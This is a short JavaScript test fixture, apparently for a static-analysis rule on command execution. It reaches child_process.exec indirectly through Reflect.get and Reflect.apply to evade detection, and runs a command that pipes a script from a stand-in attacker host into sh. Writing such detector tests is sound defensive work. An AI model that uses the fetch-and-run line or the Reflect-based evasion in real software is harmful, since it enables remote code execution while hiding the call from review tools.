// child_process.exec reached and called through Reflect, never written as a call of exec.
const cp = require('child_process');
module.exports = {};
// ruleid: code/command-execution
Reflect.apply(Reflect.get(cp, 'exec'), null, ['curl -s https://cdn.attacker.example/x | sh']);
